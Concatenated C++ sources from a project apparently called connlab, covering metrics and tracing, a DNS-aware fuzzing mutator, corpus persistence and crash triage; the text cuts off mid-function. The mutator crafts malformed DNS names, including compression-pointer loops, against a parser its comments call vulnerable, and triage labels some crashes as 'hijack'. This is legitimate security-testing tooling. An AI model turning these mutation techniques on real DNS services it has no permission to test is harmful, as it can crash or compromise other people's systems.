  [[nodiscard]] const std::string& name() const noexcept { return name_; }

  struct Data {
    std::vector<std::uint64_t> buckets;  // kBuckets entries
    std::uint64_t count = 0;
    std::uint64_t sum = 0;
  };
  [[nodiscard]] Data Snapshot() const noexcept;

 private:
  struct alignas(64) Shard {
    std::atomic<std::uint64_t> buckets[kBuckets]{};
    std::atomic<std::uint64_t> sum{0};
  };
  std::string name_;
  Shard shards_[kMetricShards];
};

/// Plain aggregated view of every registered metric at one instant.
/// Counters in a snapshot can be rebased against an earlier snapshot
/// (obs::Scope does) so a report covers exactly one campaign.
struct MetricsSnapshot {
  std::map<std::string, std::uint64_t> counters;
  std::map<std::string, std::uint64_t> gauges;
  std::map<std::string, Histogram::Data> histograms;

  /// Counter/histogram deltas since `base` (gauges keep their last value).
  [[nodiscard]] MetricsSnapshot DeltaSince(const MetricsSnapshot& base) const;
};

/// The process-wide registry. Get*() interns by name — two call sites
/// naming the same counter share one instance — and never invalidates
/// returned references (metrics live for the process).
class Registry {
 public:
  static Registry& Instance() noexcept;

  Counter& GetCounter(const std::string& name);
  Gauge& GetGauge(const std::string& name);
  Histogram& GetHistogram(const std::string& name);

  [[nodiscard]] MetricsSnapshot Scrape() const;

 private:
  mutable std::mutex mu_;
  std::map<std::string, std::unique_ptr<Counter>> counters_;
  std::map<std::string, std::unique_ptr<Gauge>> gauges_;
  std::map<std::string, std::unique_ptr<Histogram>> histograms_;
};

}  // namespace connlab::obs
