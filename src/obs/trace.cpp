#include "src/obs/trace.hpp"

#include <algorithm>
#include <atomic>
#include <chrono>

namespace connlab::obs {

namespace {

std::atomic<TraceSink*> g_sink{nullptr};

std::chrono::steady_clock::time_point TraceEpoch() noexcept {
  static const std::chrono::steady_clock::time_point epoch =
      std::chrono::steady_clock::now();
  return epoch;
}

}  // namespace

std::uint32_t ThisThreadTraceId() noexcept {
  static std::atomic<std::uint32_t> next{1};
  thread_local const std::uint32_t id =
      next.fetch_add(1, std::memory_order_relaxed);
  return id;
}

std::uint64_t TraceNowUs() noexcept {
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::microseconds>(
          std::chrono::steady_clock::now() - TraceEpoch())
          .count());
}

void TraceSink::RecordSpan(
    std::uint64_t start_us, std::uint64_t end_us, std::string phase,
    std::string name, std::vector<std::pair<std::string, std::string>> args) {
  TraceEvent event;
  event.ts_us = start_us;
  event.dur_us = end_us >= start_us ? end_us - start_us : 0;
  event.tid = ThisThreadTraceId();
  event.phase = std::move(phase);
  event.name = std::move(name);
  event.args = std::move(args);
  std::lock_guard<std::mutex> lock(mu_);
  events_.push_back(std::move(event));
}

void TraceSink::RecordInstant(
    std::string phase, std::string name,
    std::vector<std::pair<std::string, std::string>> args) {
  TraceEvent event;
  event.ts_us = TraceNowUs();
  event.tid = ThisThreadTraceId();
  event.instant = true;
  event.phase = std::move(phase);
  event.name = std::move(name);
  event.args = std::move(args);
  std::lock_guard<std::mutex> lock(mu_);
  events_.push_back(std::move(event));
}

std::vector<TraceEvent> TraceSink::Events() const {
  std::vector<TraceEvent> events;
  {
    std::lock_guard<std::mutex> lock(mu_);
    events = events_;
  }
  std::stable_sort(events.begin(), events.end(),
                   [](const TraceEvent& a, const TraceEvent& b) {
                     return a.ts_us < b.ts_us;
                   });
  return events;
}

std::size_t TraceSink::size() const {
  std::lock_guard<std::mutex> lock(mu_);
  return events_.size();
}

TraceSink* InstallTraceSink(TraceSink* sink) noexcept {
  return g_sink.exchange(sink, std::memory_order_acq_rel);
}

TraceSink* CurrentTraceSink() noexcept {
  return g_sink.load(std::memory_order_acquire);
}

}  // namespace connlab::obs
