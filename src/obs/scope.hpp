// obs::Scope — campaign-scoped observability: rebases the process-wide
// metrics registry at construction and (optionally) installs a trace sink,
// so everything a run records lands in one exportable report.
//
//   obs::Scope scope({.trace = true});
//   ... run the campaign ...
//   scope.WriteMetricsJson("m.json");
//   scope.WriteTraceJson("t.json");
//   std::printf("%s", scope.RenderTable().c_str());
//
// Scopes nest poorly on purpose: installing a second tracing scope while
// one is active would interleave two campaigns into one trace, so the
// constructor chains to (and the destructor restores) the previously
// installed sink instead of silently dropping it.
#pragma once

#include <string>

#include "src/obs/metrics.hpp"
#include "src/obs/trace.hpp"
#include "src/util/status.hpp"

namespace connlab::obs {

struct ScopeOptions {
  /// Install a TraceSink for the scope's lifetime. Off by default: with
  /// no sink installed every TraceSpan in the codebase is branch-on-null.
  bool trace = false;
};

class Scope {
 public:
  using Options = ScopeOptions;

  explicit Scope(Options options = Options{});
  ~Scope();
  Scope(const Scope&) = delete;
  Scope& operator=(const Scope&) = delete;

  /// Everything counted since the scope opened (counters and histograms
  /// rebased against the construction-time snapshot).
  [[nodiscard]] MetricsSnapshot Metrics() const;

  /// The scope's trace sink; nullptr when tracing is off.
  [[nodiscard]] TraceSink* trace_sink() noexcept {
    return options_.trace ? &sink_ : nullptr;
  }

  [[nodiscard]] std::string RenderTable() const;
  util::Status WriteMetricsJson(const std::string& path) const;
  /// Fails when the scope was opened without tracing (nothing to write —
  /// better loud than an empty artifact that looks like a quiet run).
  util::Status WriteTraceJson(const std::string& path) const;

 private:
  Options options_;
  MetricsSnapshot baseline_;
  TraceSink sink_;
  TraceSink* previous_sink_ = nullptr;
};

}  // namespace connlab::obs
