#include "src/obs/metrics.hpp"

namespace connlab::obs {

std::size_t AssignThreadShard() noexcept {
  static std::atomic<std::size_t> next{0};
  return next.fetch_add(1, std::memory_order_relaxed) % kMetricShards;
}

Histogram::Data Histogram::Snapshot() const noexcept {
  Data data;
  data.buckets.assign(kBuckets, 0);
  for (const Shard& shard : shards_) {
    for (std::size_t i = 0; i < kBuckets; ++i) {
      data.buckets[i] += shard.buckets[i].load(std::memory_order_relaxed);
    }
    data.sum += shard.sum.load(std::memory_order_relaxed);
  }
  for (const std::uint64_t b : data.buckets) data.count += b;
  return data;
}

MetricsSnapshot MetricsSnapshot::DeltaSince(const MetricsSnapshot& base) const {
  MetricsSnapshot delta;
  for (const auto& [name, value] : counters) {
    auto it = base.counters.find(name);
    const std::uint64_t before = it == base.counters.end() ? 0 : it->second;
    delta.counters[name] = value >= before ? value - before : value;
  }
  delta.gauges = gauges;
  for (const auto& [name, data] : histograms) {
    auto it = base.histograms.find(name);
    if (it == base.histograms.end()) {
      delta.histograms[name] = data;
      continue;
    }
    Histogram::Data d = data;
    for (std::size_t i = 0; i < d.buckets.size() && i < it->second.buckets.size();
         ++i) {
      d.buckets[i] -= it->second.buckets[i];
    }
    d.count -= it->second.count;
    d.sum -= it->second.sum;
    delta.histograms[name] = std::move(d);
  }
  return delta;
}

Registry& Registry::Instance() noexcept {
  static Registry* registry = new Registry();  // never destroyed: metrics
  return *registry;                            // outlive static teardown
}

Counter& Registry::GetCounter(const std::string& name) {
  std::lock_guard<std::mutex> lock(mu_);
  auto& slot = counters_[name];
  if (slot == nullptr) slot = std::make_unique<Counter>(name);
  return *slot;
}

Gauge& Registry::GetGauge(const std::string& name) {
  std::lock_guard<std::mutex> lock(mu_);
  auto& slot = gauges_[name];
  if (slot == nullptr) slot = std::make_unique<Gauge>(name);
  return *slot;
}

Histogram& Registry::GetHistogram(const std::string& name) {
  std::lock_guard<std::mutex> lock(mu_);
  auto& slot = histograms_[name];
  if (slot == nullptr) slot = std::make_unique<Histogram>(name);
  return *slot;
}

MetricsSnapshot Registry::Scrape() const {
  std::lock_guard<std::mutex> lock(mu_);
  MetricsSnapshot snap;
  for (const auto& [name, counter] : counters_) {
    snap.counters[name] = counter->Value();
  }
  for (const auto& [name, gauge] : gauges_) {
    snap.gauges[name] = gauge->Value();
  }
  for (const auto& [name, hist] : histograms_) {
    snap.histograms[name] = hist->Snapshot();
  }
  return snap;
}

}  // namespace connlab::obs
