#include "src/fuzz/mutator.hpp"

#include <algorithm>

#include "src/dns/name.hpp"

namespace connlab::fuzz {

namespace {

constexpr std::uint8_t kFiller = 0x41;

/// Tolerant label walk, mirroring the vulnerable parser's view of the
/// bytes: stops at the terminator, the first compression pointer, or the
/// end of the packet.
struct LabelWalk {
  enum class End : std::uint8_t { kTerminator, kPointer, kRanOff };
  struct Label {
    std::size_t pos = 0;  // offset of the length byte
    std::uint8_t len = 0;
  };
  std::vector<Label> labels;
  std::size_t end_pos = 0;  // offset of the terminator/pointer/end
  End end = End::kRanOff;
};

LabelWalk WalkLabels(util::ByteSpan input, std::size_t start) {
  LabelWalk walk;
  std::size_t pos = start;
  while (pos < input.size()) {
    const std::uint8_t len = input[pos];
    if (len == 0) {
      walk.end = LabelWalk::End::kTerminator;
      walk.end_pos = pos;
      return walk;
    }
    if ((len & dns::kCompressionFlags) != 0) {
      walk.end = LabelWalk::End::kPointer;
      walk.end_pos = pos;
      return walk;
    }
    if (pos + 1 + len > input.size() || walk.labels.size() >= 512) break;
    walk.labels.push_back({pos, len});
    pos += 1 + static_cast<std::size_t>(len);
  }
  walk.end = LabelWalk::End::kRanOff;
  walk.end_pos = std::min(pos, input.size());
  return walk;
}

util::Bytes CopyOf(util::ByteSpan input) {
  return util::Bytes(input.begin(), input.end());
}

}  // namespace

// Each structural operator computes its label walk against the pre-edit
// bytes, draws from the Rng, then edits `data` directly — the same walk,
// the same draws, and the same resulting bytes as the historical
// copy-then-edit versions the public statics still expose.

void Mutator::GrowLabelInPlace(util::Bytes& data, std::size_t start,
                               util::Rng& rng) {
  const LabelWalk walk = WalkLabels(data, start);
  if (walk.labels.empty()) return;
  const auto& label = walk.labels[rng.NextBelow(walk.labels.size())];
  if (label.len >= dns::kMaxLabelLen) return;
  // Biased toward the 0x3f boundary: half the draws go straight to 63.
  const std::uint8_t new_len =
      rng.NextBool(0.5)
          ? static_cast<std::uint8_t>(dns::kMaxLabelLen)
          : static_cast<std::uint8_t>(rng.NextInRange(
                label.len + 1, dns::kMaxLabelLen));
  data[label.pos] = new_len;
  data.insert(
      data.begin() + static_cast<std::ptrdiff_t>(label.pos + 1 + label.len),
      static_cast<std::size_t>(new_len - label.len), kFiller);
}

util::Bytes Mutator::GrowLabel(util::ByteSpan input, std::size_t start,
                               util::Rng& rng) {
  util::Bytes out = CopyOf(input);
  GrowLabelInPlace(out, start, rng);
  return out;
}

void Mutator::DuplicateLabelRunInPlace(util::Bytes& data, std::size_t start,
                                       util::Rng& rng, util::Bytes& scratch) {
  const LabelWalk walk = WalkLabels(data, start);
  if (walk.labels.empty()) return;
  const std::size_t first = rng.NextBelow(walk.labels.size());
  const std::size_t last = std::min(
      walk.labels.size() - 1, first + rng.NextBelow(4));
  const std::size_t run_begin = walk.labels[first].pos;
  const std::size_t run_end =
      walk.labels[last].pos + 1 + walk.labels[last].len;
  scratch.assign(data.begin() + static_cast<std::ptrdiff_t>(run_begin),
                 data.begin() + static_cast<std::ptrdiff_t>(run_end));
  const std::size_t repeats = 1 + rng.NextBelow(4);
  for (std::size_t r = 0; r < repeats; ++r) {
    data.insert(data.begin() + static_cast<std::ptrdiff_t>(run_end),
                scratch.begin(), scratch.end());
  }
}

util::Bytes Mutator::DuplicateLabelRun(util::ByteSpan input, std::size_t start,
                                       util::Rng& rng) {
  util::Bytes out = CopyOf(input);
  util::Bytes scratch;
  DuplicateLabelRunInPlace(out, start, rng, scratch);
  return out;
}

void Mutator::PlantCompressionPointerInPlace(util::Bytes& data,
                                             std::size_t start,
                                             util::Rng& rng) {
  const LabelWalk walk = WalkLabels(data, start);
  if (walk.end_pos >= data.size() && walk.end != LabelWalk::End::kRanOff) {
    return;
  }
  // Target: the name's own start (re-expansion bomb), the question name at
  // offset 12, or an arbitrary earlier offset.
  std::size_t target;
  switch (rng.NextBelow(3)) {
    case 0: target = start; break;
    case 1: target = 12; break;
    default: target = rng.NextBelow(std::max<std::size_t>(walk.end_pos, 1));
  }
  target &= 0x3FFF;
  const std::uint8_t hi = static_cast<std::uint8_t>(
      dns::kCompressionFlags | ((target >> 8) & 0x3F));
  const std::uint8_t lo = static_cast<std::uint8_t>(target & 0xFF);
  const std::size_t at = walk.end_pos;
  if (at >= data.size()) {
    data.push_back(hi);
    data.push_back(lo);
  } else {
    // Replace the terminator (or pointer) byte with the 2-byte pointer.
    data[at] = hi;
    data.insert(data.begin() + static_cast<std::ptrdiff_t>(at + 1), lo);
  }
}

util::Bytes Mutator::PlantCompressionPointer(util::ByteSpan input,
                                             std::size_t start,
                                             util::Rng& rng) {
  util::Bytes out = CopyOf(input);
  PlantCompressionPointerInPlace(out, start, rng);
  return out;
}

void Mutator::BumpAnswerCountInPlace(util::Bytes& data, util::Rng& rng) {
  if (data.size() < 8) return;
  const std::uint16_t current =
      static_cast<std::uint16_t>((data[6] << 8) | data[7]);
  const std::uint16_t next =
      rng.NextBool(0.5) ? static_cast<std::uint16_t>(1 + rng.NextBelow(8))
                        : static_cast<std::uint16_t>(current + 1);
  data[6] = static_cast<std::uint8_t>(next >> 8);
  data[7] = static_cast<std::uint8_t>(next & 0xFF);
}

util::Bytes Mutator::BumpAnswerCount(util::ByteSpan input, util::Rng& rng) {
  util::Bytes out = CopyOf(input);
  BumpAnswerCountInPlace(out, rng);
  return out;
}

void Mutator::DnsOnce(util::Bytes& data, const MutationHint& hint) {
  const std::size_t start = hint.fixed_prefix;
  if (data.size() <= start) return;
  switch (rng_.NextBelow(5)) {
    case 0: GrowLabelInPlace(data, start, rng_); return;
    case 1:
    case 2: DuplicateLabelRunInPlace(data, start, rng_, chunk_); return;
    case 3: PlantCompressionPointerInPlace(data, start, rng_); return;
    default: BumpAnswerCountInPlace(data, rng_); return;
  }
}

void Mutator::HavocOnce(util::Bytes& data, const MutationHint& hint,
                        util::ByteSpan splice_donor) {
  static constexpr std::uint8_t kInteresting[] = {0x00, 0x01, 0x3F, 0x40,
                                                  0x7F, 0x80, 0xC0, 0xFF};
  const std::size_t lo = hint.fixed_prefix;
  if (data.size() <= lo) {
    data.push_back(kFiller);
    return;
  }
  const std::size_t span = data.size() - lo;
  // The two dictionary operators only enter the op table when a dictionary
  // is supplied, so dictionary-less campaigns draw the same RNG sequence as
  // before the feature existed.
  const bool dict =
      hint.dictionary != nullptr && !hint.dictionary->empty();
  switch (rng_.NextBelow(dict ? 10 : 8)) {
    case 0: {  // flip one bit
      const std::size_t at = lo + rng_.NextBelow(span);
      data[at] ^= static_cast<std::uint8_t>(1u << rng_.NextBelow(8));
      break;
    }
    case 1: {  // random byte
      data[lo + rng_.NextBelow(span)] =
          static_cast<std::uint8_t>(rng_.NextBelow(256));
      break;
    }
    case 2: {  // interesting byte (label-length boundaries, pointer marker)
      data[lo + rng_.NextBelow(span)] =
          kInteresting[rng_.NextBelow(sizeof(kInteresting))];
      break;
    }
    case 3: {  // delete a chunk
      const std::size_t at = lo + rng_.NextBelow(span);
      const std::size_t len = std::min(data.size() - at,
                                       1 + rng_.NextBelow(32));
      data.erase(data.begin() + static_cast<std::ptrdiff_t>(at),
                 data.begin() + static_cast<std::ptrdiff_t>(at + len));
      break;
    }
    case 4: {  // duplicate a chunk in place
      const std::size_t at = lo + rng_.NextBelow(span);
      const std::size_t len = std::min(data.size() - at,
                                       1 + rng_.NextBelow(64));
      chunk_.assign(data.begin() + static_cast<std::ptrdiff_t>(at),
                    data.begin() + static_cast<std::ptrdiff_t>(at + len));
      data.insert(data.begin() + static_cast<std::ptrdiff_t>(at + len),
                  chunk_.begin(), chunk_.end());
      break;
    }
    case 5: {  // append filler (pushes expansions longer)
      const std::size_t len = 1 + rng_.NextBelow(64);
      data.insert(data.end(), len, kFiller);
      break;
    }
    case 6: {  // truncate the tail
      const std::size_t keep = lo + rng_.NextBelow(span + 1);
      data.resize(std::max(keep, lo + 1));
      break;
    }
    case 7: {  // splice with a donor entry
      if (splice_donor.size() > lo) {
        const std::size_t cut_a = lo + rng_.NextBelow(span);
        const std::size_t cut_d = lo + rng_.NextBelow(splice_donor.size() - lo);
        data.resize(cut_a);
        data.insert(data.end(),
                    splice_donor.begin() + static_cast<std::ptrdiff_t>(cut_d),
                    splice_donor.end());
      } else {
        data[lo + rng_.NextBelow(span)] ^= 0xFF;
      }
      break;
    }
    case 8: {  // insert a dictionary token
      const util::Bytes& token =
          (*hint.dictionary)[rng_.NextBelow(hint.dictionary->size())];
      const std::size_t at = lo + rng_.NextBelow(span + 1);
      data.insert(data.begin() + static_cast<std::ptrdiff_t>(at),
                  token.begin(), token.end());
      break;
    }
    default: {  // overwrite with a dictionary token
      const util::Bytes& token =
          (*hint.dictionary)[rng_.NextBelow(hint.dictionary->size())];
      const std::size_t at = lo + rng_.NextBelow(span);
      const std::size_t len = std::min(token.size(), data.size() - at);
      std::copy(token.begin(),
                token.begin() + static_cast<std::ptrdiff_t>(len),
                data.begin() + static_cast<std::ptrdiff_t>(at));
      break;
    }
  }
}

void Mutator::MutateInto(util::ByteSpan input, const MutationHint& hint,
                         util::ByteSpan splice_donor, util::Bytes& out) {
  out.assign(input.begin(), input.end());
  if (out.size() < hint.fixed_prefix) return;  // malformed seed
  const std::size_t rounds = 1 + rng_.NextBelow(4);
  for (std::size_t r = 0; r < rounds; ++r) {
    if (hint.dns && rng_.NextBool(0.6)) {
      DnsOnce(out, hint);
    } else {
      HavocOnce(out, hint, splice_donor);
    }
    if (out.size() > hint.max_size) out.resize(hint.max_size);
  }
}

util::Bytes Mutator::Mutate(util::ByteSpan input, const MutationHint& hint,
                            util::ByteSpan splice_donor) {
  util::Bytes out;
  MutateInto(input, hint, splice_donor, out);
  return out;
}

}  // namespace connlab::fuzz
