#include "src/fuzz/corpus.hpp"

#include <algorithm>

namespace connlab::fuzz {

namespace {
std::uint64_t Fnv1a(util::ByteSpan data) noexcept {
  std::uint64_t h = 0xcbf29ce484222325ULL;
  for (const std::uint8_t b : data) h = (h ^ b) * 0x100000001b3ULL;
  return h;
}
}  // namespace

bool Corpus::Add(util::Bytes data, int news, std::uint64_t found_at) {
  const std::uint64_t h = Fnv1a(data);
  for (std::size_t i = 0; i < hashes_.size(); ++i) {
    if (hashes_[i] == h && entries_[i].data == data) return false;
  }
  hashes_.push_back(h);
  entries_.push_back({std::move(data), news, found_at, 0});
  return true;
}

std::uint64_t Corpus::WeightOf(std::size_t i) const {
  const CorpusEntry& e = entries_[i];
  std::uint64_t w = e.news >= 2 ? 8 : 4;
  if (e.data.size() <= 256) w *= 2;
  // Staleness decay: every 8 picks halves the weight, floor 1.
  w >>= std::min<std::uint64_t>(e.picks / 8, 3);
  return std::max<std::uint64_t>(w, 1);
}

std::size_t Corpus::PickIndex(util::Rng& rng) {
  std::uint64_t total = 0;
  for (std::size_t i = 0; i < entries_.size(); ++i) total += WeightOf(i);
  std::uint64_t roll = rng.NextBelow(total);
  for (std::size_t i = 0; i < entries_.size(); ++i) {
    const std::uint64_t w = WeightOf(i);
    if (roll < w) {
      ++entries_[i].picks;
      return i;
    }
    roll -= w;
  }
  ++entries_.back().picks;
  return entries_.size() - 1;
}

std::uint32_t Corpus::EnergyFor(std::size_t i) const {
  const CorpusEntry& e = entries_[i];
  std::uint32_t energy = e.news >= 2 ? 32 : 16;
  if (e.data.size() > 2048) energy /= 2;
  return energy;
}

}  // namespace connlab::fuzz
