#include "src/fuzz/corpus.hpp"

#include <algorithm>
#include <cstdio>
#include <fstream>
#include <sstream>
#include <string_view>

namespace connlab::fuzz {

namespace {
std::uint64_t Fnv1a(util::ByteSpan data) noexcept {
  std::uint64_t h = 0xcbf29ce484222325ULL;
  for (const std::uint8_t b : data) h = (h ^ b) * 0x100000001b3ULL;
  return h;
}
}  // namespace

bool Corpus::Add(util::Bytes data, int news, std::uint64_t found_at) {
  const std::uint64_t h = Fnv1a(data);
  for (std::size_t i = 0; i < hashes_.size(); ++i) {
    if (hashes_[i] == h && entries_[i].data == data) return false;
  }
  hashes_.push_back(h);
  entries_.push_back({std::move(data), news, found_at, 0});
  return true;
}

std::uint64_t Corpus::WeightOf(std::size_t i) const {
  const CorpusEntry& e = entries_[i];
  std::uint64_t w = e.news >= 2 ? 8 : 4;
  if (e.data.size() <= 256) w *= 2;
  // Staleness decay: every 8 picks halves the weight, floor 1.
  w >>= std::min<std::uint64_t>(e.picks / 8, 3);
  return std::max<std::uint64_t>(w, 1);
}

std::size_t Corpus::PickIndex(util::Rng& rng) {
  std::uint64_t total = 0;
  for (std::size_t i = 0; i < entries_.size(); ++i) total += WeightOf(i);
  std::uint64_t roll = rng.NextBelow(total);
  for (std::size_t i = 0; i < entries_.size(); ++i) {
    const std::uint64_t w = WeightOf(i);
    if (roll < w) {
      ++entries_[i].picks;
      return i;
    }
    roll -= w;
  }
  ++entries_.back().picks;
  return entries_.size() - 1;
}

std::uint32_t Corpus::EnergyFor(std::size_t i) const {
  const CorpusEntry& e = entries_[i];
  std::uint32_t energy = e.news >= 2 ? 32 : 16;
  if (e.data.size() > 2048) energy /= 2;
  return energy;
}

namespace {

constexpr std::string_view kCorpusMagic = "connlab-corpus v1";

int HexNibble(char c) noexcept {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

}  // namespace

std::string SerializeCorpus(const Corpus& corpus) {
  std::string out(kCorpusMagic);
  out += '\n';
  char line[96];
  for (const CorpusEntry& e : corpus.entries()) {
    std::snprintf(line, sizeof(line), "entry news=%d found_at=%llu size=%zu\n",
                  e.news, static_cast<unsigned long long>(e.found_at),
                  e.data.size());
    out += line;
    static constexpr char kHex[] = "0123456789abcdef";
    for (const std::uint8_t b : e.data) {
      out += kHex[b >> 4];
      out += kHex[b & 0xF];
    }
    out += '\n';
  }
  return out;
}

util::Result<Corpus> DeserializeCorpus(const std::string& text) {
  std::istringstream in(text);
  std::string line;
  if (!std::getline(in, line) || line != kCorpusMagic) {
    return util::InvalidArgument("corpus file: bad or missing header");
  }
  Corpus corpus;
  while (std::getline(in, line)) {
    if (line.empty()) continue;
    int news = 0;
    unsigned long long found_at = 0;
    std::size_t size = 0;
    if (std::sscanf(line.c_str(), "entry news=%d found_at=%llu size=%zu",
                    &news, &found_at, &size) != 3) {
      return util::InvalidArgument("corpus file: bad entry line: " + line);
    }
    std::string hex;
    if (!std::getline(in, hex) || hex.size() != size * 2) {
      return util::InvalidArgument("corpus file: truncated entry payload");
    }
    util::Bytes data(size);
    for (std::size_t i = 0; i < size; ++i) {
      const int hi = HexNibble(hex[2 * i]);
      const int lo = HexNibble(hex[2 * i + 1]);
      if (hi < 0 || lo < 0) {
        return util::InvalidArgument("corpus file: bad hex payload");
      }
      data[i] = static_cast<std::uint8_t>(hi << 4 | lo);
    }
    corpus.Add(std::move(data), news, found_at);
  }
  return corpus;
}

util::Status SaveCorpus(const Corpus& corpus, const std::string& path) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  if (!out) return util::Internal("cannot open corpus file for write: " + path);
  const std::string text = SerializeCorpus(corpus);
  out.write(text.data(), static_cast<std::streamsize>(text.size()));
  if (!out) return util::Internal("short write to corpus file: " + path);
  return util::OkStatus();
}

util::Result<Corpus> LoadCorpus(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return util::NotFound("corpus file not found: " + path);
  std::ostringstream text;
  text << in.rdbuf();
  return DeserializeCorpus(text.str());
}

}  // namespace connlab::fuzz
