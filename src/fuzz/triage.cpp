#include "src/fuzz/triage.hpp"

#include <algorithm>
#include <cstdio>
#include <cstdlib>

#include "src/isa/isa.hpp"

namespace connlab::fuzz {

namespace {

std::uint64_t HashStack(const std::vector<mem::GuestAddr>& stack,
                        const FuzzTarget& target) {
  std::uint64_t h = 0xcbf29ce484222325ULL;
  std::size_t taken = 0;
  for (const mem::GuestAddr word : stack) {
    if (taken >= 4) break;
    h = (h ^ target.NormalizePc(word)) * 0x100000001b3ULL;
    ++taken;
  }
  return h;
}

std::string_view KindName(ExecResult::Kind kind) {
  switch (kind) {
    case ExecResult::Kind::kBenign: return "benign";
    case ExecResult::Kind::kCrash: return "crash";
    case ExecResult::Kind::kAbort: return "abort";
    case ExecResult::Kind::kHijack: return "hijack";
    case ExecResult::Kind::kOther: return "other";
  }
  return "?";
}

}  // namespace

CrashKey KeyFor(const ExecResult& result, const FuzzTarget& target) {
  CrashKey key;
  key.kind = result.kind;
  key.stop_reason = result.stop_reason;
  key.pc = target.NormalizePc(result.pc);
  key.write_fault = result.write_fault;
  key.stack_hash = HashStack(result.stack, target);
  return key;
}

std::string FormatCrashKey(const CrashKey& key) {
  char buf[128];
  std::snprintf(buf, sizeof(buf),
                "%s/%s pc=0x%08x %s stack=%016llx",
                std::string(KindName(key.kind)).c_str(),
                std::string(vm::StopReasonName(key.stop_reason)).c_str(),
                key.pc, key.write_fault ? "write" : "exec",
                static_cast<unsigned long long>(key.stack_hash));
  return buf;
}

bool CrashTriage::Record(const ExecResult& result, util::ByteSpan input,
                         std::uint64_t exec_index, const FuzzTarget& target) {
  const CrashKey key = KeyFor(result, target);
  for (CrashBucket& bucket : buckets_) {
    if (bucket.key == key) {
      ++bucket.hits;
      return false;
    }
  }
  CrashBucket bucket;
  bucket.key = key;
  bucket.witness.assign(input.begin(), input.end());
  bucket.minimized = bucket.witness;
  bucket.first_result = result;
  bucket.hits = 1;
  bucket.first_exec = exec_index;
  buckets_.push_back(std::move(bucket));
  return true;
}

void CrashTriage::Merge(const CrashTriage& other) {
  for (const CrashBucket& incoming : other.buckets_) {
    bool merged = false;
    for (CrashBucket& mine : buckets_) {
      if (mine.key == incoming.key) {
        mine.hits += incoming.hits;
        if (incoming.first_exec < mine.first_exec) {
          mine.witness = incoming.witness;
          mine.minimized = incoming.minimized;
          mine.first_result = incoming.first_result;
          mine.first_exec = incoming.first_exec;
        }
        merged = true;
        break;
      }
    }
    if (!merged) buckets_.push_back(incoming);
  }
}

util::Bytes MinimizeCrash(FuzzTarget& target, const CrashKey& key,
                          util::ByteSpan input, std::size_t max_execs) {
  util::Bytes best(input.begin(), input.end());
  const std::size_t prefix = target.fixed_prefix();
  std::size_t execs = 0;
  CoverageMap scratch;

  const auto still_crashes = [&](util::ByteSpan candidate) {
    if (execs >= max_execs) return false;
    ++execs;
    scratch.Clear();
    const ExecResult result = target.Execute(candidate, scratch);
    if (result.kind == ExecResult::Kind::kBenign) return false;
    return KeyFor(result, target).CoreMatches(key);
  };

  // Phase 1: binary tail truncation.
  std::size_t cut = best.size() > prefix ? (best.size() - prefix) / 2 : 0;
  while (cut >= 1 && execs < max_execs) {
    if (best.size() - cut > prefix) {
      util::Bytes candidate(best.begin(),
                            best.end() - static_cast<std::ptrdiff_t>(cut));
      if (still_crashes(candidate)) {
        best = std::move(candidate);
        continue;  // retry the same cut on the shorter input
      }
    }
    cut /= 2;
  }

  // Phase 2: block removal at shrinking granularity.
  for (std::size_t block : {64u, 32u, 16u, 8u, 4u, 2u, 1u}) {
    if (execs >= max_execs) break;
    std::size_t at = prefix;
    while (at + block <= best.size() && execs < max_execs) {
      util::Bytes candidate;
      candidate.reserve(best.size() - block);
      candidate.insert(candidate.end(), best.begin(),
                       best.begin() + static_cast<std::ptrdiff_t>(at));
      candidate.insert(candidate.end(),
                       best.begin() + static_cast<std::ptrdiff_t>(at + block),
                       best.end());
      if (candidate.size() > prefix && still_crashes(candidate)) {
        best = std::move(candidate);  // stay at `at`: next block slid in
      } else {
        at += block;
      }
    }
  }
  return best;
}

void MinimizeBucket(FuzzTarget& target, CrashBucket& bucket,
                    std::size_t max_execs) {
  bucket.minimized =
      MinimizeCrash(target, bucket.key, bucket.witness, max_execs);
}

// ---------------------------------------------------------------------------
// Reproducer files
// ---------------------------------------------------------------------------

namespace {

constexpr std::string_view kMagic = "connlab-repro v1";

std::string HexEncode(util::ByteSpan data) {
  static constexpr char kHex[] = "0123456789abcdef";
  std::string out;
  out.reserve(data.size() * 2);
  for (const std::uint8_t b : data) {
    out.push_back(kHex[b >> 4]);
    out.push_back(kHex[b & 0xF]);
  }
  return out;
}

util::Result<util::Bytes> HexDecode(std::string_view hex) {
  if (hex.size() % 2 != 0) return util::Malformed("odd hex length");
  const auto nibble = [](char c) -> int {
    if (c >= '0' && c <= '9') return c - '0';
    if (c >= 'a' && c <= 'f') return c - 'a' + 10;
    if (c >= 'A' && c <= 'F') return c - 'A' + 10;
    return -1;
  };
  util::Bytes out;
  out.reserve(hex.size() / 2);
  for (std::size_t i = 0; i < hex.size(); i += 2) {
    const int hi = nibble(hex[i]);
    const int lo = nibble(hex[i + 1]);
    if (hi < 0 || lo < 0) return util::Malformed("bad hex digit");
    out.push_back(static_cast<std::uint8_t>((hi << 4) | lo));
  }
  return out;
}

/// Returns the value part of "key: value", or empty when the key differs.
std::string_view ValueFor(std::string_view line, std::string_view key) {
  if (line.substr(0, key.size()) != key) return {};
  std::string_view rest = line.substr(key.size());
  if (rest.substr(0, 2) != ": ") return {};
  return rest.substr(2);
}

}  // namespace

std::string SerializeReproducer(const TargetConfig& config,
                                const CrashBucket& bucket) {
  const util::Bytes& input =
      bucket.minimized.empty() ? bucket.witness : bucket.minimized;
  char buf[256];
  std::string out(kMagic);
  out += '\n';
  std::snprintf(buf, sizeof(buf),
                "target: %s\narch: %s\nboot_seed: %llu\npatched: %d\n",
                std::string(TargetKindName(config.kind)).c_str(),
                std::string(isa::ArchName(config.arch)).c_str(),
                static_cast<unsigned long long>(config.boot_seed),
                config.patched ? 1 : 0);
  out += buf;
  std::snprintf(buf, sizeof(buf),
                "kind: %u\nstop: %u\npc: 0x%08x\nwrite_fault: %d\n"
                "stack_hash: 0x%016llx\n",
                static_cast<unsigned>(bucket.key.kind),
                static_cast<unsigned>(bucket.key.stop_reason), bucket.key.pc,
                bucket.key.write_fault ? 1 : 0,
                static_cast<unsigned long long>(bucket.key.stack_hash));
  out += buf;
  out += "input: ";
  out += HexEncode(input);
  out += '\n';
